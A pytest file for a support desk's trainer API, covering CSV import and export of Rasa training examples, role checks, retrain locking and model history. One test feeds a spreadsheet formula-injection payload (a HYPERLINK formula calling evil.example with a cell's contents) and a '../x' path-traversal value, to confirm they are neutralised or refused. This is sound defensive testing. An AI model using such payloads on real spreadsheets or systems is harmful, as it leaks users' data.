"""The trainer's models API through the real desk (Redis, SQLite; Rasa scripted at the
edge): labelled examples out and in as CSV (checked row by row, all or nothing, written
as the inbox's labels are), the history of retrained models, one retrain at a time, and
the roles that may do any of it. The retrain itself against a real Rasa: tests/e2e."""

from __future__ import annotations

import csv
import io

import pytest
import redis
import yaml
from sqlalchemy import inspect, text

from bot.db.engine import make_engine
from bot.desk import retrain_lock
from bot.desk.model_history import ModelHistory
from bot.desk.models import CURRENT_VERSION, ensure_desk_schema
from tests.desk.conftest import FakeRasa, add_agent, free_port, now_utc, upload_examples_csv, write_nlu_file

HEADER = "language,text,intent,labelled_by,labelled_at\r\n"


@pytest.fixture
def desk(make_desk, fake_rasa, tmp_path):
    # A project of its own (no evaluation sets): the checkout's real set has "Não chegou meu
    # produto", which the rows below are near-identical to (tests/desk/test_trainer_inbox.py
    # covers the evaluation sets).
    return make_desk(fake_rasa.url, nlu_data_dir=tmp_path / "nlu", train_root=tmp_path / "project")


@pytest.fixture
def people(desk, journal):
    for name, role in (("tom", "trainer"), ("sue", "supervisor"), ("ann", "tier1")):
        add_agent(journal, name, role)
    return {name: desk.login(name) for name in ("tom", "sue", "ann")}


def rows_of(desk, token, query=""):
    reply = desk.api("GET", f"/api/trainer/examples.csv{query}", token)
    assert reply.status_code == 200, reply.text
    assert reply.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(reply.content.decode("utf-8"))))


def reviewed(tmp_path, language):
    return yaml.safe_load((tmp_path / "nlu" / language / "reviewed.yml").read_text(encoding="utf-8"))


def test_import_then_export_round_trips_through_reviewed_yml(desk, people, tmp_path):
    from rasa.shared.nlu.training_data.formats.rasa_yaml import RasaYAMLReader

    body = HEADER + (
        "pt,Não chegou meu produto SO-1,track_order,,\r\n"
        'en,"where is my parcel, it is late",track_order,alice,2026-11-30T10:00:00+00:00\r\n'
        'en,=1+2 refund now,request_refund,"=HYPERLINK(""http://evil.example/?""&A2,""x"")",\r\n'
        "pt,não chegou meu produto SO-77,track_order,,\r\n"  # the same message: once
    )
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 200, reply.text
    assert reply.json() == {"imported": 3, "skipped": 1, "refused": []}
    pt = reviewed(tmp_path, "pt")
    assert pt["nlu"] == [
        {
            "intent": "track_order",
            "examples": [
                {
                    "text": "Não chegou meu produto SO-1",
                    "metadata": {
                        "labelled_by": "tom",
                        "labelled_at": pt["nlu"][0]["examples"][0]["metadata"]["labelled_at"],
                    },
                }
            ],
        }
    ]
    RasaYAMLReader().reads((tmp_path / "nlu" / "en" / "reviewed.yml").read_text(encoding="utf-8"))
    exported = rows_of(desk, people["sue"])
    by_text = {row["text"]: row for row in exported}
    assert by_text["where is my parcel, it is late"]["labelled_by"] == "alice"
    assert by_text["where is my parcel, it is late"]["labelled_at"] == "2026-11-30T10:00:00+00:00"
    # A spreadsheet would run "=1+2..." as a formula: exported behind an apostrophe...
    assert "'=1+2 refund now" in by_text
    # ...as is every cell: a name in labelled_by came from an imported file.
    assert by_text["'=1+2 refund now"]["labelled_by"] == '\'=HYPERLINK("http://evil.example/?"&A2,"x")'
    assert [row["language"] for row in rows_of(desk, people["tom"], "?lang=pt")] == ["pt"]
    # ...and taken off again when the same file comes back: nothing new, nothing doubled.
    again = upload_examples_csv(
        desk, people["tom"], desk.api("GET", "/api/trainer/examples.csv", people["tom"]).content
    )
    assert again.json() == {"imported": 0, "skipped": 3, "refused": []}
    assert len(rows_of(desk, people["tom"])) == 3
    # The inbox treats imported labels as its own: their groups are answered.
    assert desk.api("GET", "/api/trainer/inbox?lang=pt", people["tom"]).json()["groups"] == []


def test_a_relabelled_message_moves_to_its_new_intent(desk, people, tmp_path):
    assert (
        upload_examples_csv(
            desk, people["tom"], HEADER + "en,my parcel is late,track_order,,\r\n"
        ).status_code
        == 200
    )
    reply = upload_examples_csv(desk, people["tom"], HEADER + "en,My parcel is LATE,urge_shipment,,\r\n")
    assert reply.json() == {"imported": 1, "skipped": 0, "refused": []}
    assert [(r["text"], r["intent"]) for r in rows_of(desk, people["tom"])] == [
        ("My parcel is LATE", "urge_shipment")
    ]


def test_bad_rows_are_named_by_line_and_nothing_is_written(desk, people, tmp_path):
    body = HEADER + (
        "en,fine row,track_order,,\r\n"
        "xx,unknown language,track_order,,\r\n"
        "en,unknown intent,fly_to_the_moon,,\r\n"
        "en,   ,track_order,,\r\n"
        f"en,{'a' * 2001},track_order,,\r\n"
        "en,bad time,track_order,bob,yesterday\r\n"
        "en,fine row,greet,,\r\n"
        "en,no utc instant,track_order,bob,0001-01-01T00:00:00+01:00\r\n"
    )
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 400
    message = reply.json()["error"]
    for expected in (
        "line 3: unknown language 'xx'",
        "line 4: unknown intent 'fly_to_the_moon'",
        "line 5: the text is empty",
        "line 6: the text is 2001 characters long",
        "line 7: labelled_at 'yesterday' is not an ISO 8601 time",
        "line 8: labels the message of line 2 as greet",
        "line 9: labelled_at '0001-01-01T00:00:00+01:00' is out of range",
        "nothing imported",
    ):
        assert expected in message, message
    assert not (tmp_path / "nlu" / "en").exists()
    assert rows_of(desk, people["tom"]) == []


def test_a_row_the_hand_written_data_contradicts_is_reported_and_the_rest_imported(desk, people, tmp_path):
    write_nlu_file(
        tmp_path / "nlu" / "en" / "orders.yml", "track_order", "where is my parcel", "has it shipped yet"
    )
    body = HEADER + (
        "en,I was charged twice,complaint,,\r\n"
        "en,Where is my PARCEL,request_refund,,\r\n"  # orders.yml says track_order
        "en,Has it shipped yet,track_order,,\r\n"  # agrees: taken, not written twice
        "en,the box came crushed,damaged_item,,\r\n"
    )
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 200, reply.text
    assert reply.json()["imported"] == 3
    assert [(row["line"], row["intent"]) for row in reply.json()["refused"]] == [(3, "request_refund")]
    assert "an example of track_order in en/orders.yml" in reply.json()["refused"][0]["reason"]
    assert sorted((row["text"], row["intent"]) for row in rows_of(desk, people["tom"])) == [
        ("I was charged twice", "complaint"),
        ("the box came crushed", "damaged_item"),
    ]


@pytest.mark.parametrize(
    "body, expected",
    [
        ("", "the file is empty"),
        ("text,intent\r\nhello,greet\r\n", "the header lacks language"),
        (HEADER, "no examples"),
        ("language,text,intent\r\nen,caf\xe9 late,track_order\r\n".encode("latin-1"), "not UTF-8"),
        ('language,text,intent\r\nen,"unterminated\r\n', "line"),
        # Intent before text: a stray quote read the next row into this text, and imported it.
        (
            'language,intent,text\r\nen,track_order,"where is it\r\nen,greet,hello\r\n',
            "line 2: a quoted cell",
        ),
        # A comma in an unquoted text cut it there ("where is it"), and imported that.
        ("language,intent,text\r\nen,track_order,where is it, my parcel\r\n", "4 cells under a header of 3"),
        ("language,text,intent,text\r\nen,hi,greet,hello\r\n", "the header names text more than once"),
    ],
)
def test_unreadable_files_get_a_clear_400(desk, people, body, expected):
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 400, reply.text
    assert expected in reply.json()["error"]


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_sheet_saved_with_semicolons_or_tabs_is_read(desk, people, separator):
    # What a spreadsheet in a decimal-comma locale (pt-BR, es, ru...) saves as "CSV".
    said = '"quero a nota fiscal; é para empresa, ok"'
    rows = [["language", "text", "intent"], ["pt", said, "out_of_scope"]]
    body = "".join(separator.join(row) + "\r\n" for row in rows)
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 200, reply.text
    assert [(r["text"], r["intent"]) for r in rows_of(desk, people["tom"])] == [
        ("quero a nota fiscal; é para empresa, ok", "out_of_scope")
    ]


def test_a_sheet_with_carriage_returns_alone_for_line_ends_is_read(desk, people):
    # Old Mac spreadsheets end lines with CR: the separator was read off the whole file then.
    body = "language;text;intent\rpt;quero a nota fiscal, para empresa;out_of_scope\r"
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 200, reply.text
    assert [r["text"] for r in rows_of(desk, people["tom"])] == ["quero a nota fiscal, para empresa"]


def test_a_utf8_file_with_a_byte_order_mark_is_read(desk, people):
    body = ("\ufeff" + "language,text,intent\r\nth,พัสดุยังไม่มา,track_order\r\n").encode("utf-8")
    reply = upload_examples_csv(desk, people["sue"], body)
    assert reply.json() == {"imported": 1, "skipped": 0, "refused": []}
    assert rows_of(desk, people["sue"])[0]["text"] == "พัสดุยังไม่มา"


def test_only_trainers_and_supervisors_reach_any_of_it(desk, people):
    routes = [
        ("GET", "/api/trainer/examples.csv"),
        ("POST", "/api/trainer/examples.csv"),
        ("POST", "/api/trainer/retrain"),
        ("GET", "/api/trainer/retrain"),
        ("GET", "/api/trainer/models"),
        ("GET", "/api/trainer/models/1"),
        ("GET", "/api/trainer/served"),
    ]
    for method, path in routes:
        assert desk.api(method, path).status_code == 401, path
        refused = desk.api(method, path, people["ann"], data=HEADER.encode())
        assert refused.status_code == 403, path
        assert "tier1 role" in refused.json()["error"]
    assert desk.api("GET", "/api/trainer/examples.csv?lang=../x", people["tom"]).status_code == 400


def test_the_served_model_is_read_from_every_rasa_replica(make_desk, fake_rasa, journal, tmp_path):
    other = FakeRasa().start()
    try:
        other.model_file = "kefu-other.tar.gz"
        down = f"http://127.0.0.1:{free_port()}"
        replicas = [fake_rasa.url, other.url, down]
        desk = make_desk(fake_rasa.url, nlu_data_dir=tmp_path / "nlu", rasa_replicas=", ".join(replicas))
        add_agent(journal, "tom", "trainer")
        token = desk.login("tom")
        found = desk.api("GET", "/api/trainer/served", token)
        assert found.status_code == 200, found.text
        assert found.json() == {
            "model_file": "kefu-fake.tar.gz",  # a tie: the first replica's
            "replicas": [
                {"replica": 1, "url": fake_rasa.url, "model_file": "kefu-fake.tar.gz"},
                {"replica": 2, "url": other.url, "model_file": "kefu-other.tar.gz"},
                {"replica": 3, "url": down, "model_file": None},
            ],
            "answering": 2,
            "consistent": False,
        }
        other.model_file = "kefu-fake.tar.gz"
        again = desk.api("GET", "/api/trainer/served", token).json()
        assert again["consistent"] is True and again["answering"] == 2
    finally:
        other.stop()


def test_the_history_lists_retrains_newest_first_and_shows_one_in_full(desk, people, journal):
    history = ModelHistory(journal.engine)
    first = history.start("tom", now_utc())["id"]
    figures = {"en": {"macro_f1": 0.9, "confusion": {"labels": ["a"], "matrix": [[3]]}}}
    history.update(
        first,
        "evaluating",
        fingerprint="abc",
        model_file="kefu-abc.tar.gz",
        reports=figures,
        evaluated_on="sets-1",
    )
    history.update(first, "refused", reason="kept the current model: en dropped", promoted=False)
    second = history.start("sue", now_utc())["id"]
    listed = desk.api("GET", "/api/trainer/models", people["tom"]).json()["models"]
    assert [m["id"] for m in listed] == [second, first]
    assert listed[1]["figures"] == {"en": 0.9} and listed[1]["stage"] == "refused"
    assert [s["stage"] for s in listed[1]["stages"]] == ["training", "evaluating", "refused"]
    full = desk.api("GET", f"/api/trainer/models/{first}", people["tom"]).json()["model"]
    assert full["reports"]["en"]["confusion"]["matrix"] == [[3]]
    assert full["reason"] == "kept the current model: en dropped" and full["finished_at"]
    assert desk.api("GET", "/api/trainer/models/999", people["tom"]).status_code == 404
    for unknown in ("99999999999999999999", "%C2%B2", "-1"):
        assert desk.api("GET", f"/api/trainer/models/{unknown}", people["tom"]).status_code == 404
    for limit in ("0", "501", "%C2%B2", "abc", "-5"):
        reply = desk.api("GET", f"/api/trainer/models?limit={limit}", people["tom"])
        assert reply.status_code == 400 and "'limit'" in reply.json()["error"], limit
    assert len(desk.api("GET", "/api/trainer/models?limit=1", people["tom"]).json()["models"]) == 1
    assert history.reports_for("kefu-abc.tar.gz", "sets-1") == figures
    assert history.reports_for("kefu-abc.tar.gz", "other-sets") is None  # measured on other sets


def test_a_second_retrain_while_one_runs_gets_409(desk, people, journal, redis_url):
    history = ModelHistory(journal.engine)
    running = history.start("sue", now_utc())["id"]
    client = redis.Redis.from_url(redis_url)
    client.set(retrain_lock.KEY, "someone-elses-token", ex=60)
    reply = desk.api("POST", "/api/trainer/retrain", people["tom"])
    assert reply.status_code == 409
    assert f"a retrain is already running (#{running}, started by sue" in reply.json()["error"]
    status = desk.api("GET", "/api/trainer/retrain", people["tom"]).json()
    assert status["running"] is True and status["job"]["id"] == running
    assert status["max_drop"] == 1.0
    assert client.get(retrain_lock.KEY) == b"someone-elses-token"  # the holder's lock untouched
    # The holder dies: its lock expires, and the status says what became of its row.
    client.delete(retrain_lock.KEY)
    status = desk.api("GET", "/api/trainer/retrain", people["tom"]).json()
    assert status["running"] is False
    assert status["job"]["stage"] == "failed" and "without finishing" in status["job"]["reason"]


def test_a_retrain_process_that_dies_holding_the_lock_does_not_block_the_next(
    desk, people, journal, monkeypatch
):
    import sys
    import time

    from bot.desk import retrain_runner

    # Killed before it let go of the lock (SIGTERM runs no cleanup): exits at once, lock held.
    monkeypatch.setattr(
        retrain_runner, "retrain_command", lambda *_: [sys.executable, "-c", "raise SystemExit(9)"]
    )
    assert desk.api("POST", "/api/trainer/retrain", people["tom"]).status_code == 202
    history = ModelHistory(journal.engine)
    deadline = time.monotonic() + 20
    while history.latest()["stage"] != "failed" and time.monotonic() < deadline:
        time.sleep(0.2)
    assert "exit code 9" in history.latest()["reason"]
    again = desk.api("POST", "/api/trainer/retrain", people["tom"])
    assert again.status_code == 202, again.text


def test_a_version_5_database_gains_the_model_history(database_url):
    engine = make_engine(database_url)
    ensure_desk_schema(engine)
    with engine.begin() as conn:
        conn.execute(text("DROP TABLE desk_model_candidates"))
        conn.execute(text("UPDATE desk_schema_version SET version = 5"))
    assert ensure_desk_schema(engine) == CURRENT_VERSION == 12
    with engine.connect() as conn:
        assert "desk_model_candidates" in inspect(conn).get_table_names()
    engine.dispose()


def test_the_export_masks_buyers_personal_data_a_file_still_holds(desk, people, tmp_path):
    # Written before masking existed: the buyer's own words.
    path = tmp_path / "nlu" / "en" / "reviewed.yml"
    path.parent.mkdir(parents=True)
    path.write_text(
        'version: "3.1"\nnlu:\n- intent: track_order\n  examples:\n'
        '  - text: "order LZD8812345, mail john@x.com, call +66 81 234 5678"\n',
        encoding="utf-8",
    )
    assert [row["text"] for row in rows_of(desk, people["tom"])] == [
        "order 100000000000, mail buyer@example.com, call +1 555 010 0000"
    ]


def test_an_import_into_two_languages_is_written_in_both_or_neither(desk, people, tmp_path):
    refused = tmp_path / "nlu" / "pt" / "reviewed.yml"
    refused.parent.mkdir(parents=True)
    refused.write_text('version: "3.1"\nnlu:\n- regex: pedido\n  examples: |\n    - \\d+\n', encoding="utf-8")
    body = HEADER + "en,my parcel is late,track_order,,\r\npt,meu pacote atrasou,track_order,,\r\n"
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 409 and "only intent blocks" in reply.json()["error"]
    assert not (tmp_path / "nlu" / "en" / "reviewed.yml").exists()
    refused.unlink()
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.json() == {"imported": 2, "skipped": 0, "refused": []}


def test_a_hand_written_block_string_is_exported_an_example_a_line(desk, people, tmp_path):
    path = tmp_path / "nlu" / "en" / "reviewed.yml"
    path.parent.mkdir(parents=True)
    path.write_text(
        'version: "3.1"\nnlu:\n- intent: greet\n  examples: |\n    - hi\n    - yo\n', encoding="utf-8"
    )
    assert [(row["text"], row["intent"]) for row in rows_of(desk, people["tom"])] == [
        ("hi", "greet"),
        ("yo", "greet"),
    ]


def test_times_in_utc_written_with_z_are_read(desk, people):
    body = HEADER + (
        "en,my parcel is late,track_order,amy,2024-05-01T10:00:00Z\r\n"
        "en,where is my refund,request_refund,amy,2024-05-01T10:00:00.123Z\r\n"  # JavaScript's toISOString
    )
    reply = upload_examples_csv(desk, people["tom"], body)
    assert reply.status_code == 200, reply.text
    assert {row["text"]: row["labelled_at"] for row in rows_of(desk, people["tom"])} == {
        "my parcel is late": "2024-05-01T10:00:00+00:00",
        "where is my refund": "2024-05-01T10:00:00.123000+00:00",
    }
